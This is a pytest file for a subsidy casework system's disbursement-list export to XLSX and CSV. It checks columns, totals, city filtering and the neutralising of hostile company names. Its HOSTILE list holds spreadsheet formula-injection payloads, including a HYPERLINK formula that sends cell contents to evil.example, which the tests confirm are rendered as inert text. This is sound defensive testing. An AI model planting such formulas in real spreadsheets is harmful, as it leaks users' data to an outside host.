"""The 拨付清单: columns finance needs, a 合计 line, frozen header and filters, hostile names made harmless in Excel
and CSV, the caseworker's city only; the workbook is a valid package that openpyxl reads back."""
import csv
import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from casework_support import FACTORY, FOUNDATION, PAYEE, PROFILE, SALES, approve, submit
from eligibility.casework import export
from eligibility.casework.payee import Payee
from eligibility.casework.service import CaseworkError
from eligibility.casework.xlsx import SheetWriter, clean, column_letter
from eligibility.creditcode import check_character

WIDE = (date(2000, 1, 1), date(2999, 12, 31))
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")", "+1+1", "-2+3", "@SUM(1)", "\tTAB公司", "\rCR公司",
           "ESC\x1b公司", "VT\x0b公司", "SOH\x01公司", "正常公司"]


def approved_world(session, engine, clerk, name="许昌某电气公司", division="411003"):
    profile = {**PROFILE, "name": name, "division_code": division}
    app = submit(session, engine, claims=[SALES, FACTORY, FOUNDATION], profile=profile,
                 payee=Payee(name, PAYEE.bank, PAYEE.account))
    approve(session, clerk, app.claims[0])
    approve(session, clerk, app.claims[1])
    approve(session, clerk, app.claims[2], amount=3_000_000, reason="国家资助实际到位600万元")
    return app


def xlsx_rows(session, **options):
    out = io.BytesIO()
    count = export.write_xlsx(export.disbursements(session, *WIDE, **options), out, "拨付清单")
    return count, load_workbook(io.BytesIO(out.getvalue())), out.getvalue()


def csv_rows(session, **options):
    out = io.BytesIO()
    export.write_csv(export.disbursements(session, *WIDE, **options), out)
    text = out.getvalue().decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_the_list_has_what_finance_needs(session, engine, clerk):
    app = approved_world(session, engine, clerk)
    count, book, _ = xlsx_rows(session)
    sheet = book.active
    assert count == 3 and sheet.title == "拨付清单" and sheet["A1"].value == "拨付清单"
    header = [c.value for c in sheet[2]]
    assert header == ["序号", "城市/区县", "企业名称", "统一社会信用代码", "户名", "开户行", "账号", "奖励项目", "文号",
                      "条款", "资金用途", "责任单位", "金额(元)", "批准人", "批准日期", "说明", "申请编号", "规则编号"]
    rows = [dict(zip(header, (c.value for c in row), strict=False)) for row in sheet.iter_rows(min_row=3)]
    first, project, total = rows[0], rows[2], rows[3]
    assert first["序号"] == 1 and first["城市/区县"] == "许昌市建安区" and first["企业名称"] == "许昌某电气公司"
    assert first["账号"] == PAYEE.account and first["开户行"] == PAYEE.bank and first["户名"] == "许昌某电气公司"
    assert first["金额(元)"] == 100000 and first["文号"] == "许政[2017]29号" and first["条款"] == "二(一)2"
    assert first["批准人"] == "clerk" and first["批准日期"].date() == export.local_time(
        app.claims[0].ledger_entry.approved_at).date()
    assert first["申请编号"] == app.reference and first["规则编号"] == SALES.rule_id
    assert rows[1]["资金用途"] is None or isinstance(rows[1]["资金用途"], str)
    assert project["奖励项目"].endswith("(项目:强基一号)") and project["金额(元)"] == 3_000_000
    assert project["说明"] == "国家资助实际到位600万元" and "市工信委" in project["责任单位"]
    assert total["序号"] == "合计" and total["城市/区县"] == "3项" and total["金额(元)"] == 3_300_000
    assert sheet.freeze_panes == "A3" and sheet.auto_filter.ref == "A2:R5"
    assert sheet.cell(3, 13).number_format == "#,##0" and sheet.cell(3, 4).data_type == "s"


def test_csv_has_the_same_rows_and_total(session, engine, clerk):
    approved_world(session, engine, clerk)
    rows = csv_rows(session)
    assert rows[0][:4] == ["序号", "城市/区县", "企业名称", "统一社会信用代码"] and rows[0][-1] == "规则编号"
    assert rows[1][6] == PAYEE.account and rows[1][12] == "100000" and rows[-1][0] == "合计"
    assert rows[-1][12] == "3300000" and len(rows) == 5


def test_hostile_names_are_neither_formulas_nor_broken_xml(session, engine, clerk):
    """Names that start with = + - @, a tab or CR, or contain ESC, VT, SOH: before, one such name made the xlsx
    export fail for everybody (ValueError) and the others became live formulas in finance's workbook and CSV.
    (NUL is refused when the enterprise applies: PostgreSQL cannot store it.)"""
    for i, name in enumerate(HOSTILE):
        code = f"91411000{i:09d}"
        profile = {**PROFILE, "name": name, "credit_code": code + check_character(code), "projects": []}
        app = submit(session, engine, claims=[SALES], profile=profile, payee=Payee(name, PAYEE.bank, PAYEE.account))
        approve(session, clerk, app.claims[0])
    count, book, raw = xlsx_rows(session)
    assert count == len(HOSTILE)
    sheet = book.active
    for row in sheet.iter_rows(min_row=3, max_row=2 + count):
        for cell in row:
            assert cell.data_type != "f", cell.value  # openpyxl reads a formula cell as type "f"
    names = [sheet.cell(r, 3).value for r in range(3, 3 + count)]
    assert names[0].startswith("=HYPERLINK") and names[6] == "ESC\ufffd公司" and names[7] == "VT\ufffd公司"
    sheet_xml = zipfile.ZipFile(io.BytesIO(raw)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "\x1b" not in sheet_xml and "\x0b" not in sheet_xml
    rows = csv_rows(session)
    names = [row[2] for row in rows[1:-1]]
    assert names[:6] == ["'" + HOSTILE[0], "'+1+1", "'-2+3", "'@SUM(1)", "TAB公司", "CR公司"]  # the profile strips
    neutralised = [export.neutralise(t) for t in ("\tx", "\rx", "=x", "x=", "\x1b=")]
    assert neutralised == ["'\tx", "'\rx", "'=x", "x=", "\ufffd="]
    assert names[6:] == ["ESC\ufffd公司", "VT\ufffd公司", "SOH\ufffd公司", "正常公司"]
    assert all(not name.startswith(export.FORMULA_PREFIXES) for row in rows[1:-1] for name in row[1:])


def test_nul_is_refused_when_applying_on_both_databases(session, engine):
    profile = {**PROFILE, "name": "NUL\x00公司", "projects": []}
    with pytest.raises(CaseworkError, match="空字符"):
        submit(session, engine, claims=[SALES], profile=profile, payee=Payee("NUL\x00公司", PAYEE.bank, PAYEE.account))


def test_only_the_city_asked_for(session, engine, clerk):
    app = approved_world(session, engine, clerk)
    assert len(csv_rows(session, city="411000")) == 5  # header, three awards, 合计
    assert csv_rows(session, city="150200") == [export.HEADERS, ["合计", "0项"] + [""] * 10 + ["0"] + [""] * 5]
    app.city_code = "150200"  # as if it had been filed in Baotou
    session.commit()
    assert len(csv_rows(session, city="150200")) == 5 and len(csv_rows(session, city="411000")) == 2


def test_an_empty_period_is_a_header_and_a_zero_total(session):
    count, book, _ = xlsx_rows(session)
    assert count == 0 and [c.value for c in book.active[3]][:2] == ["合计", "0项"]


def test_the_writer_never_writes_a_formula_and_knows_its_columns():
    assert [column_letter(i) for i in (0, 25, 26, 51, 52, 701, 702)] == ["A", "Z", "AA", "AZ", "BA", "ZZ", "AAA"]
    assert clean("a\x00b\x1bc\ud800d\uffffe\tf") == "a\ufffdb\ufffdc\ufffdd\ufffde\tf"
    out = io.BytesIO()
    sheet = SheetWriter(out, "表<1>&", [10, 10])
    sheet.row(["=1+1", "<b>&amp;"])
    sheet.row([5, date(2026, 1, 2)])
    sheet.close()
    book = load_workbook(io.BytesIO(out.getvalue()))
    cells = [[c.value for c in row] for row in book.active.iter_rows()]
    assert book.active.title == "表<1>&" and cells[0] == ["=1+1", "<b>&amp;"] and book.active["A1"].data_type == "s"
    assert cells[1][0] == 5 and cells[1][1].date() == date(2026, 1, 2)
    with pytest.raises(TypeError):
        sheet_again = SheetWriter(io.BytesIO(), "x", [1])
        sheet_again.row([1.5])
